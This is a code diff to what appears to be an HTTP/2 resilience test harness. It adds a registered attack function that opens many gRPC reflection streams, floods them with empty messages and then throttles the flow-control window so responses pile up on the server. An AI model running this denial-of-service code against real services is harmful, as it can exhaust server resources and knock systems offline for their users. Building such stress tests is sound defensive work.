@@ -5,8 +5,8 @@ import struct
 import time
 
 from h2_peer import WINDOW_UPDATE, long_field
-from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, H2, PING, SETTINGS, data, field, flood, frame, ping, priority, rst,
-                  settings, window)
+from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GRPC, HEADERS, H2, PING, SETTINGS, data, field, flood, frame, grpc_message,
+                  ping, priority, rst, settings, window)
 from registry import attack
 
 INFER = '/v2/models/identity/infer'
@@ -124,6 +124,25 @@ def window_of_zero(target):
                 h2.send(b''.join(window(s, 1) for s in range(1, 200, 2) if s not in h2.closed_streams))
         time.sleep(1)
     return f'{sum(p.alive for p in peers)} of {len(peers)} connections still open'
+
+
+@attack(seconds=30, quick=6)
+def tiny_answers(target):
+    """300 calls of reflection without a window, of 24,000 empty messages each, whose answers of 44 bytes wait but for 1.5 KB a second."""
+    path, streams = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo', range(1, 200, 2)
+    with contextlib.ExitStack() as stack:
+        peers = [stack.enter_context(H2(target, (4, 0), wait=5)) for _ in range(3)]
+        for h2 in peers:
+            h2.send(b''.join(h2.head(s, path, 'POST', end=False, extra=GRPC) for s in streams))
+            for _ in range(24):  # 120 KB a stream, 12 MB a connection: within the windows
+                h2.send(b''.join(frame(DATA, 0, s, grpc_message(b'') * 1000) for s in streams))
+                h2.pump()
+        while not target.over():
+            for h2 in peers:
+                h2.send(b''.join(window(s, 1500) for s in streams if s not in h2.closed_streams))
+                h2.pump()
+            time.sleep(1)
+    return f'{sum(h2.alive and h2.goaway is None for h2 in peers)} of {len(peers)} connections still open'
 
 
 @attack(quick=2.5)
